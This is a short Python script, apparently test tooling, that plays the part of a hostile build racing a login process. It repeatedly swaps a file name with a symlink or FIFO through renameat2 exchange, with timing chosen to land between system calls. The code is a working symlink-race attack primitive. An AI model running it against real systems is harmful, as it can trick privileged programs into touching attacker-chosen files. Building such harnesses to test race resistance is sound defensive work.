"""What a hostile build does beside a login: exchange two names, as fast as it can, until it is ended.

    python flip.py KIND TARGET NAME DOUBLE

NAME is what login uses, DOUBLE a symbolic link to TARGET, or a FIFO. Both are exchanged in one step (renameat2), for
moments of different lengths. One that is gone is made again. Linux only.
"""

import ctypes
import os
import random
import sys
import time
from contextlib import suppress
from pathlib import Path

AT_FDCWD, RENAME_EXCHANGE = -100, 2
LIBC = ctypes.CDLL(None)
HOSTILE_SECONDS = [*[0] * 600, 0.0001, 0.001, 0.003]
HARMLESS_SECONDS = [*[0] * 600, 0.001, 0.005, 0.02, 0.05]
"""Bursts that hit between two system calls, and between them time for a login to come through some of its steps."""


def is_hostile(path: Path) -> bool:
    return path.is_symlink() or path.is_fifo()


def main() -> None:
    kind, target = sys.argv[1:3]
    name, double = map(Path, sys.argv[3:])
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    while True:
        if LIBC.renameat2(AT_FDCWD, bytes(name), AT_FDCWD, bytes(double), RENAME_EXCHANGE) == 0:
            time.sleep(random.choice(HOSTILE_SECONDS if is_hostile(name) else HARMLESS_SECONDS))
            continue
        with suppress(OSError):
            if is_hostile(double) or not double.exists():
                os.mkfifo(double) if kind == "fifo" else double.symlink_to(target)
            else:
                double.rename(name)


if __name__ == "__main__":
    main()
